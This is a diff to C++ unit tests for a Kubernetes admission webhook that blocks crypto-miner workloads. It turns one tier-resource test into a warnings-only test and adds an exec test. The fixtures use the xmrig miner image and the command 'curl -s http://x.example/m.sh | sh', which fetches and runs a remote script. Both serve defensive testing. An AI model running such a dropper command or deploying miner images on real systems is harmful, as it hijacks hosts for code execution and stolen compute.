@@ -139,27 +139,53 @@ TEST(AdmissionTest, InvalidMinerPolicyIsRefusedWithEveryProblem) {
   EXPECT_NE(msg.find("spec.blockedDigests[0]"), std::string::npos) << msg;
 }
 
-TEST(AdmissionTest, TierResourcesUseTheExtraValidation) {
+TEST(AdmissionTest, TierResourcesGetWarningsNeverDenials) {
   AdmissionContext ctx;
-  ctx.extra_validation = [](const std::string& kind, const json& obj) {
-    std::vector<std::string> problems;
-    if (kind == "OrderService" && obj["spec"].value("replicas", 0) < 0) {
-      problems.push_back("spec.replicas: must not be negative");
+  ctx.tier_warnings = [](const std::string& kind, const json& obj) {
+    std::vector<std::string> warnings;
+    if (kind == "OrderService" && obj["spec"].contains("cacheRef")) {
+      warnings.push_back("spec.cacheRef.name: CacheTier shop/nope does not exist (yet)");
     }
-    return problems;
+    return warnings;
   };
   json svc = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
               {"kind", "OrderService"},
-              {"metadata", {{"name", "orders"}}},
-              {"spec", {{"replicas", -1}}}};
+              {"metadata", {{"name", "orders"}, {"namespace", "shop"}}},
+              {"spec", {{"image", "xmrig/xmrig"}, {"cacheRef", {{"name", "nope"}}}}}};
   auto reply = review(review_of(svc, "OrderService", "CREATE", "tiers.orderguard.io").dump(), ctx);
   json out = json::parse(reply.body);
-  EXPECT_EQ(out["response"]["allowed"], false);
-  EXPECT_NE(out["response"]["status"]["message"].get<std::string>().find("spec.replicas"),
-            std::string::npos);
-  svc["spec"]["replicas"] = 3;
-  reply = review(review_of(svc, "OrderService", "CREATE", "tiers.orderguard.io").dump(), ctx);
+  EXPECT_EQ(out["response"]["allowed"], true);
+  EXPECT_EQ(out["response"]["warnings"],
+            json::array({"spec.cacheRef.name: CacheTier shop/nope does not exist (yet)"}));
+  svc["spec"].erase("cacheRef");
+  reply = review(review_of(svc, "OrderService", "UPDATE", "tiers.orderguard.io").dump(), ctx);
+  out = json::parse(reply.body);
+  EXPECT_EQ(out["response"]["allowed"], true);
+  EXPECT_FALSE(out["response"].contains("warnings"));
+  // Without lookups (no API server) the tier resources are simply allowed.
+  reply = review(review_of(svc, "OrderService", "CREATE", "tiers.orderguard.io").dump(), {});
   EXPECT_EQ(json::parse(reply.body)["response"]["allowed"], true);
+}
+
+// pods/exec CONNECT: the command is checked like a container's.
+TEST(AdmissionTest, ExecWithAMinerCommandIsRefused) {
+  json exec = {{"kind", "PodExecOptions"},
+               {"apiVersion", "v1"},
+               {"container", "app"},
+               {"command", {"sh", "-c", "curl -s http://x.example/m.sh | sh"}}};
+  json req = review_of({{"metadata", {{"name", "orders-0"}}}}, "PodExecOptions", "CONNECT", "");
+  req["request"]["object"] = exec;  // what the API server sends: no metadata
+  req["request"]["subResource"] = "exec";
+  req["request"]["resource"] = {{"group", ""}, {"version", "v1"}, {"resource", "pods"}};
+  auto reply = review(req.dump(), {});
+  json out = json::parse(reply.body);
+  ASSERT_EQ(out["response"]["allowed"], false) << reply.body;
+  EXPECT_NE(out["response"]["status"]["message"].get<std::string>().find("dropper"),
+            std::string::npos)
+      << reply.body;
+  req["request"]["object"]["command"] = {"ls", "-l", "/app"};
+  reply = review(req.dump(), {});
+  EXPECT_EQ(json::parse(reply.body)["response"]["allowed"], true) << reply.body;
 }
 
 // Same value and, recursively, the same value types (unsigned vs signed numbers).
